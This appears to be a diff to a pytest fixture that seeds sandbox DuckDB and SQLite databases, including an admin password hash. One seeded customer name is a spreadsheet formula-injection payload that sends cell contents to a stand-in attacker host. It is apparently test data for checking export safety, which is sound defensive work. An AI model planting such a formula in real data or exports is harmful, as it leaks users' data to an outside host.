@@ -28,16 +28,16 @@ def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
     operational database holding a password hash and a secret file beside them."""
     home = tmp_path_factory.mktemp("sandbox") / "home"
     home.mkdir()
-    con = connect(home / "warehouse.duckdb")
-    con.execute("CREATE SCHEMA marts")
+    connect(home / "warehouse.duckdb").close()
+    con = connect(home / "marts.duckdb")
     con.execute(
-        "CREATE TABLE marts.customers AS SELECT * FROM (VALUES "
+        "CREATE TABLE customers AS SELECT * FROM (VALUES "
         "('c1', 'Nordlys AS; Oslo', 1200.50, DATE '2025-01-31'), "
         "('c2', '=HYPERLINK(\"http://evil.example/?\"&A1)', -300.25, DATE '2025-02-28')"
         ") AS t(customer_id, name, mrr, month)"
     )
     con.close()
-    publish(home / "warehouse.duckdb", home / "serving.duckdb")
+    publish(home / "marts.duckdb", home / "serving.duckdb")
     with sqlite3.connect(home / "avtale.db") as users:
         users.execute("CREATE TABLE users (username TEXT, password_hash TEXT)")
         users.execute("INSERT INTO users VALUES ('admin', ?)", [PASSWORD_HASH])
